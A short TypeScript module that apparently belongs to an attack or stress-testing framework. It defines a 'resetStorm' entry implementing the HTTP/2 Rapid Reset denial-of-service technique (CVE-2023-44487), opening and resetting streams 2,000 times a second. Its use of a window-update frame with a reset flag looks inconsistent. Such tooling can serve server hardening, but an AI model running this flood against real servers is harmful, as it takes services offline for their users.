import { FLAG, FRAME, frameHeader } from '../foe/foe.ts'
import { Grudge } from '../foe/grudge.ts'
import { requestBody } from '../foe/lane-frames.ts'
import { Late } from '../messages.ts'
import type { Attack } from '../attack.ts'

/** Rapid reset (CVE-2023-44487): a request and its end in one packet. */
export const resetStorm: Attack = {
  row: 4,
  what: 'streams opened and reset, 2,000 a second',
  strikesPerSecond: 2000,
  begin: target =>
    Grudge.begin(
      target,
      () => {},
      foe => {
        const id = foe.ask(Late.protocolId, requestBody(1))
        foe.bytes(frameHeader(FRAME.windowUpdate, FLAG.rst, id, 0))
      }
    )
}
